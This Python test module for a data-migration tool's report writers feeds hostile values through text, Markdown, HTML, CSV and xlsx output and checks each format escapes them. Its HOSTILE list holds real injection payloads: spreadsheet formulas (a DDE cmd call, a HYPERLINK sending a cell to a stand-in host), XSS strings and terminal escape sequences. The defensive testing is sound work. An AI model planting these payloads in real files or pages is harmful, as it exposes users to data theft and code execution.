"""Hostile values, inputs carrying them, and the checks every output format must pass.

The same values go through every writer (text, Markdown, HTML, CSV, xlsx): a value is shown,
never obeyed, whatever the format.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml
from openpyxl import load_workbook

from bbmigrate.escaping import formula_cells
from bbmigrate.resources import mappings_dir, samples_dir

HOSTILE: tuple[str, ...] = (
    '=HYPERLINK("http://x/?"&B2,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "a\x01b",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "over\rwrite",
    "<img src=x onerror=alert(1)>",
    "<iframe src=x></iframe>",
    "[x](javascript:alert(1))",
    # DEL, C1 (CSI 0x9b acts as ESC [ on terminals that honour C1; NEL 0x85 breaks a line) and
    # the Unicode line/paragraph separators
    "del\x7fete",
    "\x9b2J\x9b31mred",
    "next\x85line",
    "line\u2028sep\u2029para",
)
# Everything the escaping rule makes visible, except the line feed that separates lines.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
# JSON may carry DEL, C1 and U+2028 raw (they are valid in a JSON string); C0 never.
RAW_JSON_CONTROL = re.compile("[\x00-\x09\x0b-\x1f]")
FORMULA_START = ("=", "+", "-", "@")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
BENE = "-19990000004781"


def poison(document: Any, values: Iterator[str], keys: frozenset[str] | None = None) -> Any:
    """``document`` with string leaves replaced by hostile values in turn (all of them, or
    those under ``keys``); ``resourceType`` and ``id`` stay so the resource is still one."""
    if isinstance(document, dict):
        return {
            k: v
            if k in ("resourceType", "id")
            or (keys is not None and k not in keys and not isinstance(v, dict | list))
            else poison(v, values, keys)
            for k, v in document.items()
        }
    if isinstance(document, list):
        return [poison(v, values, keys) for v in document]
    if isinstance(document, str):
        return next(values)
    return document


def hostile_beneficiary(root: Path, files: tuple[str, ...] = ("Patient.json",)) -> Path:
    """A fetch-layout folder (``v1/``, ``v2/``) whose values are all hostile; v2 takes the
    values in another order, so the diff reports changes that carry them on both sides."""
    for side, shift in (("v1", 0), ("v2", 5)):
        (root / side).mkdir(parents=True, exist_ok=True)
        order = HOSTILE[shift:] + HOSTILE[:shift]
        for name in files:
            document = json.loads((samples_dir() / BENE / side / name).read_text())
            poisoned = poison(document, itertools.cycle(order))
            (root / side / name).write_text(json.dumps(poisoned))
    return root


def hostile_tables_inputs(root: Path) -> tuple[Path, Path]:
    """A mapping folder whose notes and reasons are hostile, and a sample folder whose displays
    and names (the tables' labels and examples) are hostile."""
    mappings = root / "mappings"
    shutil.copytree(mappings_dir(), mappings)
    values = itertools.cycle(HOSTILE)
    for path in (mappings / "patient.yaml", mappings / "coverage.yaml"):
        document = yaml.safe_load(path.read_text())
        for node in _nodes(document):
            for key in ("note", "reason", "drop"):  # rule notes, gap and drop reasons
                if isinstance(node.get(key), str):
                    node[key] = next(values)
        path.write_text(yaml.safe_dump(document, allow_unicode=False, sort_keys=False))
    samples = root / "samples"
    shutil.copytree(samples_dir() / BENE, samples / BENE)
    keys = frozenset({"display", "text", "family", "given", "line", "city"})
    for path in sorted((samples / BENE).rglob("*.json")):
        document = json.loads(path.read_text())
        path.write_text(json.dumps(poison(document, itertools.cycle(HOSTILE), keys)))
    return mappings, samples


def _nodes(node: Any) -> Iterator[dict]:
    if isinstance(node, dict):
        yield node
        for value in node.values():
            yield from _nodes(value)
    elif isinstance(node, list):
        for value in node:
            yield from _nodes(value)


# -- the checks ------------------------------------------------------------------------------
def assert_no_raw_control(text: str, where: str) -> None:
    found = RAW_CONTROL.search(text)
    if found is not None:
        near = text[max(0, found.start() - 40) : found.end() + 40]
        raise AssertionError(f"{where}: raw control {found.group()!r} near {near!r}")


def assert_json_inert(text: str, where: str) -> None:
    """Valid JSON whose strings hold controls only as escapes (``\\u001b``)."""
    json.loads(text)
    found = RAW_JSON_CONTROL.search(text)
    assert found is None, f"{where}: raw control {found.group()!r} in JSON"


def _escaped_controls() -> list[str]:
    """The hostile values that hold a control character, as the escaping rule shows them."""
    from bbmigrate.escaping import visible

    return [visible(v) for v in HOSTILE if RAW_CONTROL.search(v)]


def assert_text_inert(text: str) -> None:
    assert_no_raw_control(text, "text")
    # the values are there, escaped, not dropped (which ones depends on the report)
    assert any(shown in text for shown in _escaped_controls()), text[:2000]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def html_tags(page: str) -> _Tags:
    parser = _Tags()
    parser.feed(page)
    parser.close()
    return parser


def _assert_no_live_tags(parsed: _Tags, where: str) -> None:
    for tag, attrs in parsed.tags:
        assert tag not in ("img", "iframe", "script") or (where == "html" and tag == "script"), (
            f"{where}: live <{tag}>"
        )
        for name, value in attrs:
            assert not name.startswith("on"), f"{where}: event handler {name} on <{tag}>"
            assert not (value or "").strip().lower().startswith("javascript:"), (tag, name)


def assert_html_inert_tags(page: str) -> _Tags:
    """No raw control, no live tag or handler from data (the page's own one script is ours)."""
    assert_no_raw_control(page, "html")
    parsed = html_tags(page)
    _assert_no_live_tags(parsed, "html")
    assert sum(tag == "script" for tag, _ in parsed.tags) <= 1
    return parsed


def assert_html_inert(page: str) -> None:
    parsed = assert_html_inert_tags(page)
    shown = "".join(parsed.text)
    assert "<img src=x onerror=alert(1)>" in shown or "<iframe src=x></iframe>" in shown


def assert_markdown_inert_tags(markdown: str) -> _Tags:
    """Render the Markdown as a CommonMark + tables renderer would and check the HTML."""
    from markdown_it import MarkdownIt

    assert_no_raw_control(markdown, "markdown")
    parsed = html_tags(MarkdownIt("commonmark").enable("table").render(markdown))
    _assert_no_live_tags(parsed, "markdown")
    return parsed


def assert_markdown_inert(markdown: str) -> None:
    shown = "".join(assert_markdown_inert_tags(markdown).text)
    assert "<img src=x onerror=alert(1)>" in shown or "[x](javascript:alert(1))" in shown


def assert_csv_inert(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for field in row:
            assert_no_raw_control(field, "csv field")
            if field.startswith(FORMULA_START):
                assert PLAIN_NUMBER.fullmatch(field), f"CSV field starts a formula: {field!r}"
    fields = {f for row in rows for f in row}
    assert "'=cmd|' /C calc'!A0" in fields or "'@SUM(A1)" in fields or "'+1+1" in fields


def assert_workbook_inert(path: Path) -> None:
    book = load_workbook(path)
    assert formula_cells(book) == []
    values = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    for value in values:
        assert_no_raw_control(value, "xlsx cell")
    # the hostile values were written, as text
    shown = _escaped_controls()
    assert any(v.startswith(("=", "@SUM")) or any(e in v for e in shown) for v in values)
